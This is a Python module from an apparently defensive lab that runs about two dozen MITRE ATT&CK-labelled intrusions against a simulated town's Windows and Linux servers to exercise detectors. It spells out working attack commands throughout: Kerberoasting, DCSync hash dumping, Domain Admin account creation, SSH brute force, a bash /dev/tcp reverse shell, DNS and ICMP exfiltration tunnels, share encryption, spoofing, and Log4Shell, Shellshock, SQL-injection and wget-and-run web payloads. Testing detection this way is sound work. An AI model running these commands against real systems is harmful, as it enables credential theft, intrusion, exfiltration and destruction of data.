# SPDX-License-Identifier: Apache-2.0
"""One technique each, made with the programs intruders use, against the town's own servers.

Every scenario here has a silent twin, in twins.py or among the older ones.
"""

import random
import shlex

from . import files, intrusion, plan
from .intrusion import IMPACKET, KANRI, admin, run
from .scenario import ZERO, Scenario, expect
from .work import CURL

DC, FS, WEB = (plan.host(n).ipv4 for n in ("dc1", "fs1", "web1"))
BASE = "dc=komorebi,dc=example"


def _ticket(user="sato"):
    return f'echo "$TOWN_PASSWORD" | kinit -c /tmp/cc_{user} {user} >/dev/null; export KRB5CCNAME=/tmp/cc_{user}\n'


def kerberoast(p):
    """impacket's GetUserSPNs stops at Samba, which wants a checksum that it does not send; so with MIT's client."""
    run(p, "kerberoast", "dc1", "fetches tickets of service accounts to crack them",
        "サービスアカウントのチケットを取得（解読目的）", "T1558.003",
        _ticket() + f"""ldapsearch -N -Y GSSAPI -O maxssf=0 -Q -LLL -H ldap://dc1.{plan.DOMAIN} -b {BASE} \
    '(&(samAccountType=805306368)(servicePrincipalName=*)(!(objectClass=computer)))' servicePrincipalName |
    sed -n 's/^servicePrincipalName: //p' | while read -r spn; do kvno -e rc4-hmac "$spn"; done""")


def asreproast(p):
    names = "\n".join(u for u, _ in plan.PEOPLE)
    run(p, "asrep-roast", "dc1", "asks for logon tickets of accounts that need no password",
        "事前認証不要のアカウントのチケットを取得", "T1558.004",
        f"cd /tmp; echo {shlex.quote(names)} > names; {IMPACKET}/GetNPUsers.py -no-pass -usersfile names"
        f" -dc-ip {DC} {plan.DOMAIN}/")


def dcsync(p):
    run(p, "dcsync", "dc1", "fetches password hashes as a domain controller would",
        "ドメインコントローラーになりすまし全パスワード情報を取得", "T1003.006",
        f"cd /tmp; impacket-secretsdump -just-dc {admin('dc1')}")


def accounts(p):
    run(p, "account-list", "dc1", "lists every account over SAMR and LSARPC",
        "SAMR・LSARPCで全アカウントを列挙", "T1087.002",
        f"""impacket-samrdump {plan.DOMAIN}/sato:"$TOWN_PASSWORD"@{DC}
rpcclient -U 'KOMOREBI\\sato%'"$TOWN_PASSWORD" {DC} -c 'enumdomusers; enumdomgroups; querygroupmem 0x200; enumtrust; getdompwinfo'
{IMPACKET}/lookupsid.py {plan.DOMAIN}/sato:"$TOWN_PASSWORD"@{DC} 1200""")


def shares(p):
    hosts = " ".join(plan.host(n).ipv4 for n in ("dc1", "fs1", "mail1", "web1", "ns1"))
    run(p, "share-list", "fs1", "lists the shares of every server", "全サーバーの共有を列挙", "T1135",
        f"""for h in {hosts} 10.20.1.103 10.20.1.107; do
    smbclient -L $h -t 2 -U 'KOMOREBI\\sato%'"$TOWN_PASSWORD"
done
printf '%s\\n' {DC} {FS} > /tmp/targets
timeout 25 impacket-netview {plan.DOMAIN}/sato:"$TOWN_PASSWORD" -targets /tmp/targets -noloop""")


def directory(p):
    ask = f"ldapsearch -N -Y GSSAPI -O maxssf=0 -Q -LLL -H ldap://dc1.{plan.DOMAIN} -b {BASE} -E pr=500/noprompt"
    run(p, "ldap-survey", "dc1", "surveys the whole directory", "ディレクトリ全体を調査", "T1087.002",
        _ticket() + f"""{ask} '(&(objectCategory=person)(objectClass=user))' '*'
{ask} '(objectClass=computer)' dNSHostName operatingSystem servicePrincipalName
{ask} '(&(objectClass=group)(adminCount=1))' member
{ask} '(&(samAccountType=805306368)(servicePrincipalName=*))' servicePrincipalName
{ask} '(userAccountControl:1.2.840.113556.1.4.803:=4194304)' sAMAccountName
{ask} '(objectClass=trustedDomain)' trustPartner
{ask} '(objectClass=organizationalUnit)' gPLink
{ask} '(userAccountControl:1.2.840.113556.1.4.803:=524288)' sAMAccountName
{ask} '(msDS-AllowedToDelegateTo=*)' msDS-AllowedToDelegateTo""")


def psexec(p):
    intrusion.remote_service(p, ZERO)


def registry(p):
    run(p, "registry-read", "fs1", "reads another machine's registry", "別の端末のレジストリを読み取り", "T1012",
        f"""for key in HKU 'HKLM\\SOFTWARE' 'HKLM\\SYSTEM\\CurrentControlSet\\Services'; do
    net rpc registry enumerate "$key" -S {FS} -U 'KOMOREBI\\administrator%'"$TOWN_PASSWORD"
done""")


def coerce(p):
    run(p, "coercion", "fs1", "makes the file server log on at the intruder's machine (RPC)",
        "ファイルサーバーに侵入端末への認証を強要（RPC）", "T1187",
        f"python3 /tmp/coerce.py {FS} {plan.host(ZERO).ipv4} KOMOREBI sato", program="coerce.py")


def zerologon(p):
    run(p, "zerologon", "dc1", "tries to sign in as the domain controller with zeros",
        "ドメインコントローラーの機器アカウントに総当たり（Zerologon）", "T1210",
        f"python3 /tmp/netlogon_zero.py DC1 {DC} 300", program="netlogon_zero.py")


def new_user(p):
    way = f"-S {DC} -U 'KOMOREBI\\administrator%'\"$TOWN_PASSWORD\""
    run(p, "account-made", "dc1", "makes an account and puts it among the administrators",
        "アカウントを作成し管理者グループに追加", "T1136.002",
        f"""net rpc user add hoshu02 Hoshu-0002-Kari {way}
net rpc group addmem 'Domain Admins' hoshu02 {way}
sleep 1; net rpc user delete hoshu02 {way}""")


def ssh_guess(p):
    intrusion.sshd(p)
    words = "\n".join(f"{w}{n}" for n in ("", "1", "!") for w in ("admin", "root", "komorebi", "password", "linux", "web",
                      "portal", "toor", "changeme", "P@ssw0rd", "letmein", "natsu2026", "haru2026"))
    run(p, "ssh-brute-force", "web1", "tries many passwords over SSH", "SSHで多数のパスワードを試行", "T1110.001",
        f"cd /tmp; echo {shlex.quote(words)} > words; hydra -I -t 4 -l {KANRI} -P words ssh://{WEB}")
    intrusion.sshd(p, stop=True)


def encrypt(p):
    intrusion.documents(p, 26)
    run(p, "ransomware", "fs1", "makes the files of a share unreadable", "共有フォルダのファイルを暗号化", "T1486",
        f"python3 /tmp/encrypt_share.py {FS} kaikei shiryo KOMOREBI sato", program="encrypt_share.py")


def name_tunnel(p):
    with intrusion.outside(p, f"iodined -f -c -P kd-lab -l {plan.PLACES['ns.kumo-kioku.example']} 203.0.113.129/27"
                              f" {plan.TUNNEL_ZONE}"):
        run(p, "dns-tunnel", "ns1", "carries data through name look-ups", "名前の問い合わせに隠して通信", "T1071.004",
            f"""iodine -f -r -P kd-lab -T TXT 10.20.0.53 {plan.TUNNEL_ZONE} >/tmp/iodine.log 2>&1 & tunnel=$!
for i in $(seq 40); do ip -4 addr show dev dns0 2>/dev/null | grep -q inet && break; sleep 0.25; done
ip -4 addr show dev dns0 | grep -q inet || exit 1
ping -c 12 -i 0.4 -s 400 203.0.113.129; kill $tunnel; wait $tunnel 2>/dev/null; true""", check=True)


def ping_tunnel(p):
    p.put(ZERO, "/tmp/kimitsu.bin", random.Random(5).randbytes(30000))
    run(p, "icmp-tunnel", "outside", "carries a file out in pings", "pingに隠してファイルを持ち出し", "T1048.003",
        f"python3 /tmp/carry_by_ping.py /tmp/kimitsu.bin {plan.PLACES['sync.hikari-cdn.example']}",
        program="carry_by_ping.py", ip=plan.PLACES["sync.hikari-cdn.example"])


def shell(p):
    place = plan.PLACES["sync.hikari-cdn.example"]
    commands = "id; sleep 2; hostname; sleep 2; ip -4 addr; sleep 2; pwd; sleep 2; cat /etc/hosts; sleep 2; exit"
    listener = ("python3 -c 'import socket,time,sys\ns=socket.create_server((sys.argv[1],4444));c=s.accept()[0]\n"
                "for line in sys.argv[2].split(\"; \"):\n"
                "    time.sleep(1.5) if line.startswith(\"sleep\") else c.sendall(line.encode()+b\"\\n\")\n"
                f"time.sleep(1)' {place} {shlex.quote(commands)}")
    with intrusion.outside(p, listener):
        run(p, "shell-outside", "outside", "gives a command line to a machine outside",
            "外部の端末に命令の実行を許可（リバースシェル）", "T1095",
            f"timeout 30 bash -c 'bash -i >& /dev/tcp/{place}/4444 0>&1'", ip=place)


def disguised(p):
    p.put("outside", "/srv/bad/img/banner02.jpg", files.program())
    run(p, "disguised-download", "outside", "loads a program that calls itself a picture",
        "画像を装ったプログラムを取得", "T1105",
        f"{CURL} -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' http://dl.notseikyu-update.example/img/banner02.jpg",
        ip=plan.PLACES["dl.notseikyu-update.example"])


def lure(p):
    intrusion.mail_attachment(p)


def web_attack(p):
    tries = [
        ("-G --data-urlencode \"id=1' UNION SELECT login,passwd FROM users-- -\"", "/kensaku"),
        ("-G --data-urlencode \"id=1' OR '1'='1' -- \"", "/kensaku"),
        ("--path-as-is", "/../../../../../../etc/passwd"),
        ("-G --data-urlencode 'file=../../../../etc/passwd'", "/download"),
        ("-H 'User-Agent: ${jndi:ldap://203.0.113.66:1389/a}'", "/"),
        ("-H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://203.0.113.66/b}'", "/"),
        ("-H 'User-Agent: () { :;}; /bin/bash -c \"cat /etc/passwd\"'", "/cgi-bin/status.cgi"),
        ("-G --data-urlencode 'host=127.0.0.1; wget http://203.0.113.66/x.sh -O /tmp/x; sh /tmp/x'", "/cgi-bin/ping.cgi"),
    ]
    run(p, "web-attack", "web1", "attacks the portal: database, files, Log4Shell, Shellshock",
        "ポータルへの攻撃（SQL、ファイル、Log4Shell、Shellshock）", "T1190",
        "\n".join(f"{CURL} {args} 'http://portal.{plan.DOMAIN}{path}'; sleep 0.5" for args, path in tries))


def web_search(p):
    run(p, "web-scan", "web1", "looks for weak spots of the portal", "ポータルの弱点を探索", "T1595.002",
        f"nmap -n -Pn -p 80 --script http-enum,http-shellshock --script-timeout 25s {WEB}")


def poison(p):
    victim = "soumu-pc007"
    with intrusion.on(p, ZERO, f"python3 /tmp/answer_names.py {plan.host(ZERO).ipv4} 30", "answer_names.py"):
        with p.event("name-poisoning", ZERO, victim, "answers for the names of others", "他の端末の名前に偽の応答",
                     technique="T1557.001"):
            intrusion.program(p, victim, "ask_name.py")
            p.on(victim, "for n in FS1 PRN02 KYOYUU BUNSHO01; do python3 /tmp/ask_name.py $n; "
                         "nmblookup -B 10.20.1.255 $n; sleep 1; done; true", check=False)
            p.on("jumin-pc003", "nmblookup -B 10.20.1.255 FS1; nmblookup -B 10.20.1.255 SANYO; true", check=False)


def arp_claim(p):
    victim = plan.host("soumu-pc007")
    with p.event("arp-spoofing", ZERO, "soumu-pc007", "claims the addresses of others", "他の端末のアドレスを詐称",
                 technique="T1557.002"):
        intrusion.program(p, ZERO, "claim_address.py")
        p.beside(_browse_a_while, "soumu-pc007")
        p.on(ZERO, "sysctl -qw net.ipv4.ip_forward=1; python3 /tmp/claim_address.py 25 10.20.1.1 02:6b:64:00:ff:01"
                   f" {victim.ipv4} {victim.mac}; sysctl -qw net.ipv4.ip_forward=0")


def _browse_a_while(p, host):
    p.on(host, f"for i in $(seq 8); do {CURL} http://www.shinbun.example/; ip neigh flush all; sleep 3; done; true",
         check=False)


def upload(p):
    with intrusion.big_frames(ZERO, "fs1", "outside"):
        intrusion.collect(p, ZERO)
        intrusion.carry_out(p, ZERO)


def mail_out(p):
    intrusion.mail_marked(p)


def scan_kinds(p):
    run(p, "quiet-scan", "fs1", "scans a server in the quiet ways", "目立たない方法でポートを探索", "T1046",
        f"""nmap -n -Pn -sF -T4 --top-ports 60 --max-retries 1 {FS}
nmap -n -Pn -sX -T4 --top-ports 60 --max-retries 1 {WEB}
nmap -n -Pn -sN -T4 --top-ports 60 --max-retries 1 {plan.host('mail1').ipv4}
nmap -n -Pn -sU -T4 --top-ports 30 --max-retries 1 --host-timeout 12s {FS}
nmap -n -Pn -sT -sV --version-light -T4 -p 21-25,53,80,88,110,135,139,143,389,443,445,636,3306,3389,5432,8080 {FS}""",
        )


def _attack(name, en, ja, play, tool, twin, *wants, hosts=(ZERO,)):
    """wants: (kind, technique) of the intruder's PC, or (kind, technique, host)."""
    return Scenario(name, en, ja, play, tool=tool, twin=twin, hosts=hosts,
                    expect=tuple(expect(want[0], want[1], "low", *want[2:]) for want in wants))


_PCS = tuple(h.name for h in plan.CLIENTS)
SCENARIOS = [
    _attack("kerberoast", "Tickets of service accounts fetched to crack them", "サービスアカウントのチケット取得",
            kerberoast, "ldapsearch, kvno -e rc4-hmac", "servicetickets", ("kerberoast", "T1558.003")),
    _attack("asreproast", "Logon tickets without a password", "事前認証なしのチケット取得",
            asreproast, "impacket GetNPUsers", "morninglogons", ("asrep-roast", "T1558.004")),
    _attack("dcsync", "Passwords fetched as a domain controller would", "DCSyncによる全パスワード情報の取得",
            dcsync, "impacket secretsdump", "domainadmin", ("dcsync", "T1003.006")),
    _attack("accounts", "All accounts listed over SAMR and LSARPC", "SAMR・LSARPCによるアカウント列挙",
            accounts, "impacket samrdump and lookupsid, rpcclient", "domainadmin", ("account-list", "T1087.002")),
    _attack("shares", "Shares of every server listed", "全サーバーの共有の列挙",
            shares, "smbclient -L, impacket netview", "usershare", ("share-list", "T1135")),
    _attack("directory", "The whole directory surveyed", "ディレクトリ全体の調査",
            directory, "ldapsearch", "dirsync", ("ldap-survey", "T1087.002")),
    _attack("psexec", "Program copied and a service made for it", "プログラムの複製とサービス作成",
            psexec, "smbclient, impacket psexec", "deploy", ("admin-share", "T1021.002")),
    _attack("registry", "Another machine's registry read", "別の端末のレジストリの読み取り",
            registry, "net rpc registry", "domainadmin", ("registry-read", "T1012")),
    _attack("coerce", "A server made to log on elsewhere", "認証の強要",
            coerce, "lab program on impacket (MS-DFSNM)", "usershare", ("coercion", "T1187")),
    _attack("zerologon", "Machine account tried with zeros", "Zerologonの試行",
            zerologon, "lab program on impacket (MS-NRPC)", "machineaccount", ("zerologon", "T1210")),
    _attack("newuser", "An account made and put among administrators", "アカウントの作成と管理者への追加",
            new_user, "net rpc", "domainadmin", ("account-made", "T1136.002")),
    _attack("sshguess", "Many passwords over SSH", "SSHへの総当たり",
            ssh_guess, "hydra", "sshadmin", ("ssh-brute-force", "T1110.001")),
    _attack("encrypt", "Files of a share made unreadable", "共有フォルダの暗号化",
            encrypt, "lab program on impacket (SMB 2.1)", "massrename", ("ransomware", "T1486")),
    _attack("nametunnel", "Data carried through name look-ups", "DNSトンネル",
            name_tunnel, "iodine", "longnames", ("dns-tunnel", "T1071.004")),
    _attack("pingtunnel", "A file carried out in pings", "pingによる持ち出し",
            ping_tunnel, "lab program", "pings", ("icmp-tunnel", "T1048.003")),
    _attack("shell", "A command line given to a machine outside", "リバースシェル",
            shell, "bash /dev/tcp", "sshadmin", ("shell-outside", "T1095")),
    _attack("disguised", "A program that calls itself a picture", "画像を装ったプログラム",
            disguised, "curl", "downloads", ("disguised-download", "T1105")),
    _attack("lure", "Mail with a dangerous attachment", "危険な添付ファイルのメール",
            lure, "swaks", "mailday", ("phishing", "T1566.001", "mail1")),
    _attack("webattack", "The portal attacked", "ポータルへの攻撃",
            web_attack, "curl", "webuse", ("web-attack", "T1190")),
    _attack("websearch", "Weak spots of the portal looked for", "ポータルの弱点探索",
            web_search, "nmap http-enum", "webuse", ("web-scan", "T1595.002")),
    _attack("poison", "One machine answers for the names of others", "名前への偽の応答",
            poison, "lab program (LLMNR, NetBIOS)", "netbiosnames", ("name-poisoning", "T1557.001"), hosts=_PCS),
    _attack("arpclaim", "Addresses of others claimed", "ARPスプーフィング",
            arp_claim, "lab program (ARP)", "addresschange", ("arp-spoofing", "T1557.002"), hosts=_PCS),
    _attack("upload", "Files collected and sent outside", "資料の収集と外部への送信",
            upload, "smbclient, curl", "nightbackup", ("exfiltration", "T1048")),
    _attack("mailout", "A marked document mailed outside", "秘密文書の外部へのメール送信",
            mail_out, "swaks", "mailday", ("mail-exfiltration", "T1048.003", "mail1")),
    _attack("scankinds", "Ports scanned in the quiet ways", "目立たない方法のポート探索",
            scan_kinds, "nmap -sF -sX -sN -sU -sV", "monitoring", ("quiet-scan", "T1046")),
]
